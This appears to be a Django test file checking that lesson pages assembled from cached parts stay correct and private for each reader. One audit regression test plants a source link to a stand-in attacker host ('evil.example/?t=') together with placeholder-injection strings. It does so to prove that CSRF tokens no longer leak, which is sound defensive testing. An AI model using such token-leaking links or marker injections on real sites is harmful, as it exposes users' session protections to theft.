"""Piece pages from cached parts: each reader still gets exactly their own page."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from climb.learning.models import Learner
from lessons.assembly import csrf_placeholder

from .factories import make_answer, make_climb, make_piece, make_version

pytestmark = pytest.mark.django_db

HTMX = {"HX-Request": "true"}


@pytest.fixture
def version():
    climb = make_climb(slug="ds")
    return make_version(make_piece(climb, slug="leader"), steps=3, recap="The rule, at last.")


def questions(version):
    return [step.question for step in version.steps.select_related("question")]


def signed_in(username: str) -> tuple[Client, Learner]:
    user = get_user_model().objects.create_user(username=username, password="pw")
    client = Client()
    client.force_login(user)
    return client, Learner.objects.get_or_create(user=user)[0]


def step_html(page: str, number: int) -> str:
    return re.search(rf'<li class="step[^"]*" id="step-{number}".*?</li>', page, re.S).group(0)


def test_learners_in_different_states_each_get_their_own_steps(version):
    first, second, _ = questions(version)
    right = first.choices.get(is_correct=True)
    wrong = first.choices.filter(is_correct=False).first()
    ann, ann_learner = signed_in("ann")
    bob, bob_learner = signed_in("bob")
    make_answer(ann_learner, right)
    make_answer(bob_learner, wrong)

    # Every page comes from the same cache, filled by whoever came first.
    anonymous = Client().get(version.get_absolute_url()).content.decode()
    ann_page = ann.get(version.get_absolute_url()).content.decode()
    bob_page = bob.get(version.get_absolute_url()).content.decode()

    assert "is-open" in step_html(anonymous, 1) and "is-locked" in step_html(anonymous, 2)
    assert "Right." in step_html(ann_page, 1) and "Not quite." in step_html(bob_page, 1)
    assert 'name="attempt" value="2"' in step_html(bob_page, 1)  # Bob may retry
    assert 'name="attempt"' not in step_html(ann_page, 1)  # Ann is done with it
    for page in (ann_page, bob_page):  # either answer opens the next step
        assert f'name="question" value="{second.pk}"' in step_html(page, 2)
    assert "ann" in ann_page and "bob" not in ann_page
    assert "bob" in bob_page and "ann" not in bob_page


def test_a_second_learner_in_the_same_state_costs_no_template_rendering(version):
    first = questions(version)[0]
    for name in ("ann", "bob"):
        client, learner = signed_in(name)
        make_answer(learner, first.choices.get(is_correct=True))
        response = client.get(version.get_absolute_url())
        assert response.status_code == 200
    assert response.templates == []
    assert "bob" in response.content.decode()


def test_the_page_changes_with_the_learners_own_progress(version):
    first = questions(version)[0]
    client, learner = signed_in("ann")
    before = client.get(version.get_absolute_url()).content.decode()
    assert "Answer every question to see the recap." in before
    for question in questions(version):
        make_answer(learner, question.choices.get(is_correct=True))
    after = client.get(version.get_absolute_url()).content.decode()
    assert "The rule, at last." in after
    assert "Right." in step_html(after, 1) and "Right." in step_html(after, 3)
    assert first.choices.get(is_correct=True).explanation in after


def test_names_are_escaped_where_the_page_shows_them(version):
    user = get_user_model().objects.create(username="<b>ann</b>")
    client = Client()
    client.force_login(user)
    html = client.get(version.get_absolute_url()).content.decode()
    assert "&lt;b&gt;ann&lt;/b&gt;" in html and "<b>ann</b>" not in html


def test_no_placeholder_is_left_and_every_form_carries_the_readers_token(version):
    first = questions(version)[0]
    client, learner = signed_in("ann")
    make_answer(learner, first.choices.filter(is_correct=False).first())
    client.get(version.get_absolute_url())
    response = client.get(version.get_absolute_url())
    html = response.content.decode()
    token = response.cookies.get("csrftoken") or client.cookies["csrftoken"]
    assert csrf_placeholder() not in html and "\ue000" not in html
    values = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
    assert len(values) >= 3  # log out, language switch, the retry form
    assert token.value
    fragment = client.post(
        "/answer/",
        {"question": first.pk, "choice": first.choices.get(is_correct=True).pk, "attempt": 2},
        headers=HTMX,
    ).content.decode()
    assert csrf_placeholder() not in fragment and "Right, on attempt 2." in fragment


def test_a_query_string_bypasses_the_parts(version):
    client, _ = signed_in("ann")
    client.get(version.get_absolute_url())
    response = client.get(version.get_absolute_url() + "?utm_source=mail")
    assert response.status_code == 200
    assert response.templates  # rendered, not assembled


def test_the_assembled_page_is_the_page_rendered_whole_for_that_reader(version, rf):
    """Guards the slots: anything about the reader a template starts to show beyond the
    name must change the page's key, or this fails."""
    from django.template.loader import render_to_string
    from django.utils.safestring import mark_safe

    from lessons.assembly import altitude_part, piece_html, recap_part, render_parts, step_part
    from lessons.reading import reading_context, version_for_reading

    first = questions(version)[0]
    user = get_user_model().objects.create_user(
        username="ann", email="ann@example.com", password="pw", is_staff=True
    )
    learner = Learner.objects.create(user=user)
    make_answer(learner, first.choices.filter(is_correct=False).first())
    request = rf.get(version.get_absolute_url())
    request.user = user
    cached = version_for_reading("ds", "leader", version.tier)
    context = reading_context(cached, learner.pk)
    context.update(sources=[], previous_piece=None, next_piece=None, preview=False)

    assembled = piece_html(request, context)
    again = piece_html(request, context)  # every part from the cache this time
    parts = [step_part(state) for state in context["steps"]]
    *steps, altitude, recap = render_parts(
        [*parts, altitude_part(context), recap_part(context)], cached=False
    )
    whole = render_to_string(
        "lessons/piece.html",
        {
            **context,
            "csrf_token": csrf_placeholder(),
            "step_html": [mark_safe(html) for html in steps],
            "altitude_html": mark_safe(altitude),
            "recap_html": mark_safe(recap),
        },
        request=request,
    )
    assert assembled == again == whole


def test_markers_typed_by_an_author_are_text_to_every_reader(version, settings):
    """The audit's case: author text holding the fixed CSRF placeholder got each reader's
    token (in a link to another site), and a slot marker crashed the page for anonymous
    readers (500) or pasted the recap into the title. The markers now carry a value derived
    from SECRET_KEY; whatever an author could type stays text."""
    from lessons.assembly import _markers_for

    guesses = [
        "csrf-token-placeholder-8f1e",  # the old fixed placeholder
        "\ue000slot:username\ue000",  # the old slot marker
        "\ue000slot:nonesuch\ue000",
        _markers_for("another-secret").slot.format("recap"),
        _markers_for("another-secret").csrf,
    ]
    version.title = "Slot " + guesses[2] + " title"
    version.intro = "Intro " + " ".join(guesses) + " here."
    version.save()
    version.sources.create(title="leak", url=f"https://evil.example/?t={guesses[0]}")
    ann, _ = signed_in("ann")
    for client in (Client(), ann):
        response = client.get(version.get_absolute_url())
        assert response.status_code == 200
        page = response.content.decode()
        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        assert page.count(token) == page.count('name="csrfmiddlewaretoken"') + page.count(
            '"x-csrftoken"'
        )
        assert "evil.example/?t=csrf-token-placeholder-8f1e" in page
        assert f"?t={token}" not in page
        assert page.count('id="recap"') == 1
        assert "<title>Slot \ue000slot:nonesuch\ue000 title" in page


def test_the_markers_change_with_the_secret_key(settings):
    from lessons.assembly import csrf_placeholder, markers

    first = (csrf_placeholder(), markers().slot)
    settings.SECRET_KEY = "a different secret key for this test " * 2
    assert csrf_placeholder() != first[0] and markers().slot != first[1]
    assert "8f1e" not in csrf_placeholder()
